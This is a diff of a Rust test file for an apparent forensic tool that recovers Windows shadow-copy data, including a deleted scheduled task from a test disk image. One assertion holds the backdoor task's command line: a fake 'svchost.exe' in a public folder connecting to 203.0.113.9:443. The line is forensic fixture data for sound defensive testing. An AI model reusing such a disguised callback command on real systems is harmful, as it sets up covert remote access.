@@ -41,6 +41,10 @@ fn vsstest() -> Option<(PathBuf, PathBuf)> {
 /// volume size, attribute flags).
 fn vshadowinfo(raw: &Path) -> Option<Vec<[String; 6]>> {
     let text = oracle_tool("vshadowinfo", &[raw.to_str().unwrap()])?;
+    Some(parse_vshadowinfo(&text))
+}
+
+fn parse_vshadowinfo(text: &str) -> Vec<[String; 6]> {
     let mut stores = Vec::new();
     let mut cur: Option<[String; 6]> = None;
     for line in text.lines() {
@@ -73,7 +77,7 @@ fn vshadowinfo(raw: &Path) -> Option<Vec<[String; 6]>> {
         }
     }
     stores.extend(cur);
-    Some(stores)
+    stores
 }
 
 /// `2013-12-03T06:35:09.7363787Z` as `vshadowinfo` writes it.
@@ -125,13 +129,19 @@ fn snapshots_are_what_vshadowinfo_lists() {
 struct Mounted(PathBuf);
 
 impl Mounted {
-    fn new(raw: &Path) -> Option<Self> {
+    fn new(raw: &Path, offset: u64) -> Option<Self> {
         if !need("vshadowmount", "the shadow copies exposed by vshadowmount") {
             return None;
         }
-        let dir = scratch().join(format!("vss-mount-{}", std::process::id()));
+        let dir = scratch().join(format!(
+            "vss-mount-{}-{:?}",
+            std::process::id(),
+            std::thread::current().id()
+        ));
         std::fs::create_dir_all(&dir).unwrap();
         let out = std::process::Command::new("vshadowmount")
+            .arg("-o")
+            .arg(offset.to_string())
             .arg(raw)
             .arg(&dir)
             .output()
@@ -160,59 +170,16 @@ impl Drop for Mounted {
 #[test]
 fn every_snapshot_reads_what_vshadowmount_exposes() {
     let Some((img, raw)) = vsstest() else { return };
-    let Some(mount) = Mounted::new(&raw) else {
+    let Some(mount) = Mounted::new(&raw, 0) else {
         return;
     };
     let ev = Evidence::open(&img).unwrap();
     let vol = ev.volume(None).unwrap().clone();
     let snaps = ev.snapshots(&vol).unwrap();
-    let live = ev.raw_source().unwrap();
+    let live: std::sync::Arc<dyn ReadAt> = ev.raw_source().unwrap();
     for s in &snaps {
         let exposed = mount.0.join(format!("vss{}", s.store));
-        let reader = foothold::SnapshotReader::open(live.clone(), &snaps, s.store).unwrap();
-        assert_eq!(reader.len(), std::fs::metadata(&exposed).unwrap().len());
-        // Byte for byte, in 4 MiB pieces; count the blocks that differ from the live volume
-        // (what the snapshot brings back).
-        let mut f = std::fs::File::open(&exposed).unwrap();
-        let (mut ours, mut theirs, mut now) =
-            (vec![0u8; 4 << 20], vec![0u8; 4 << 20], vec![0u8; 4 << 20]);
-        let mut changed = 0;
-        let mut at = 0u64;
-        while at < reader.len() {
-            use std::io::Read;
-            let n = ((reader.len() - at) as usize).min(ours.len());
-            reader.read_exact_at(at, &mut ours[..n]).unwrap();
-            f.read_exact(&mut theirs[..n]).unwrap();
-            live.read_exact_at(at, &mut now[..n]).unwrap();
-            if ours[..n] != theirs[..n] {
-                let i = (0..n).find(|&i| ours[i] != theirs[i]).unwrap();
-                panic!(
-                    "store {}: differs from vshadowmount at {:#x}",
-                    s.store,
-                    at + i as u64
-                );
-            }
-            changed += ours[..n]
-                .chunks(16384)
-                .zip(now[..n].chunks(16384))
-                .filter(|(a, b)| a != b)
-                .count();
-            at += n as u64;
-        }
-        assert!(
-            changed > 0,
-            "store {}: no block differs from the live volume",
-            s.store
-        );
-        eprintln!(
-            "store {}: {} bytes equal vshadowmount's, {changed} blocks differ from the live volume",
-            s.store,
-            reader.len()
-        );
-        compared(
-            "vshadowmount (16 KiB blocks)",
-            (reader.len() / 16384) as usize,
-        );
+        same_bytes(&live, &snaps, s.store, &exposed);
 
         // The listing and the files, against sleuthkit on the exposed store.
         let at_snap = Evidence::open(&img).unwrap().at_snapshot(s.store).unwrap();
@@ -288,4 +255,137 @@ fn a_file_gone_from_the_live_volume_is_read_from_its_snapshot() {
         .at_snapshot(1)
         .unwrap_err();
     assert!(e.to_string().contains("no shadow copy 1"), "{e}");
+}
+
+/// Snapshot `store` of `live` (a volume) read by foothold is the file `vshadowmount`
+/// exposes for it, byte for byte; some blocks differ from the live volume.
+fn same_bytes(
+    live: &std::sync::Arc<dyn ReadAt>,
+    snaps: &[foothold::Snapshot],
+    store: u32,
+    exposed: &Path,
+) {
+    let reader = foothold::SnapshotReader::open(live.clone(), snaps, store).unwrap();
+    let s = snaps.iter().find(|s| s.store == store).unwrap();
+    assert_eq!(reader.len(), std::fs::metadata(exposed).unwrap().len());
+    // Byte for byte, in 4 MiB pieces; count the blocks that differ from the live volume
+    // (what the snapshot brings back).
+    let mut f = std::fs::File::open(exposed).unwrap();
+    let (mut ours, mut theirs, mut now) =
+        (vec![0u8; 4 << 20], vec![0u8; 4 << 20], vec![0u8; 4 << 20]);
+    let mut changed = 0;
+    let mut at = 0u64;
+    while at < reader.len() {
+        use std::io::Read;
+        let n = ((reader.len() - at) as usize).min(ours.len());
+        reader.read_exact_at(at, &mut ours[..n]).unwrap();
+        f.read_exact(&mut theirs[..n]).unwrap();
+        live.read_exact_at(at, &mut now[..n]).unwrap();
+        if ours[..n] != theirs[..n] {
+            let i = (0..n).find(|&i| ours[i] != theirs[i]).unwrap();
+            panic!(
+                "store {}: differs from vshadowmount at {:#x}",
+                s.store,
+                at + i as u64
+            );
+        }
+        changed += ours[..n]
+            .chunks(16384)
+            .zip(now[..n].chunks(16384))
+            .filter(|(a, b)| a != b)
+            .count();
+        at += n as u64;
+    }
+    assert!(
+        changed > 0,
+        "store {}: no block differs from the live volume",
+        s.store
+    );
+    eprintln!(
+        "store {}: {} bytes equal vshadowmount's, {changed} blocks differ from the live volume",
+        s.store,
+        reader.len()
+    );
+    compared(
+        "vshadowmount (16 KiB blocks)",
+        (reader.len() / 16384) as usize,
+    );
+}
+
+/// The corpus disk whose NTFS partition has a shadow copy holding the backdoor task
+/// `\\Updater`, deleted from the live volume after it (corpus/build.sh, `vss_store.py`).
+#[test]
+fn a_task_deleted_after_a_snapshot_comes_back_from_it() {
+    let img = corpus_image("windows-vss");
+    let ev = Evidence::open(&img).unwrap();
+    let vol = ev.volume(Some(1)).unwrap().clone();
+    let snaps = ev.snapshots(&vol).unwrap();
+    assert_eq!(snaps.len(), 1);
+    // Through the GPT partition: what libvshadow reads at the partition's offset.
+    if let Some(theirs) = vshadowinfo_at(&img, vol.offset) {
+        assert_eq!(theirs.len(), 1);
+        assert_eq!(theirs[0][2], snaps[0].shadow_copy_id);
+        assert_eq!(
+            theirs[0][3],
+            libyal_time(&snaps[0].created.unwrap().to_string())
+        );
+        compared("vshadowinfo", 6);
+    }
+    if let Some(mount) = Mounted::new(&img, vol.offset) {
+        let src = ev.raw_source().unwrap();
+        let part: std::sync::Arc<dyn ReadAt> = std::sync::Arc::new(
+            foothold_evidence::Window::new(src, vol.offset, vol.length).unwrap(),
+        );
+        same_bytes(&part, &snaps, 1, &mount.0.join("vss1"));
+    }
+    // The scan of the image: the task is not on the live volume (its MFT record is free),
+    // and comes back whole from the snapshot, which it names.
+    let report = ev.scan(foothold::ScanSet::all());
+    let back: Vec<_> = report
+        .scheduled_tasks
+        .iter()
+        .filter(|t| t.task.name == "\\Updater")
+        .collect();
+    assert_eq!(back.len(), 1, "{back:#?}");
+    let t = back[0];
+    let r = t.recovered.as_ref().unwrap();
+    assert_eq!(r.from.as_str(), "snapshot");
+    assert_eq!(r.notes, ["not_on_live_volume", "also_recovered_from_mft"]);
+    let at = t.source.snapshot.as_ref().unwrap();
+    assert_eq!(
+        (at.store, at.id.as_str()),
+        (1, snaps[0].shadow_copy_id.as_str())
+    );
+    assert_eq!(t.source.path, "/Windows/System32/Tasks/Updater");
+    assert_eq!(t.task.actions.len(), 1);
+    assert_eq!(
+        t.runs[0].invocation.command_line,
+        "C:\\Users\\Public\\svchost.exe -connect 203.0.113.9:443"
+    );
+    // Every other task is the same in the snapshot as on the live volume.
+    let live_tasks = report
+        .scheduled_tasks
+        .iter()
+        .filter(|t| t.recovered.is_none());
+    for t in live_tasks {
+        assert_eq!(t.seen_in_snapshots.len(), 1, "{}", t.task.name);
+    }
+    // Read at the snapshot, it is an ordinary task file there.
+    let then = Evidence::open(&img).unwrap().at_snapshot(1).unwrap();
+    let r = then.scan(foothold::ScanSet::none().tasks());
+    let t = r
+        .scheduled_tasks
+        .iter()
+        .find(|t| t.task.name == "\\Updater")
+        .unwrap();
+    assert!(t.recovered.is_none() && t.source.snapshot.is_some());
+}
+
+/// `vshadowinfo -o OFFSET` of a disk image.
+fn vshadowinfo_at(img: &Path, offset: u64) -> Option<Vec<[String; 6]>> {
+    let text = oracle_tool(
+        "vshadowinfo",
+        &["-o", &offset.to_string(), img.to_str().unwrap()],
+    )?;
+    Some(parse_vshadowinfo(&text))
 }
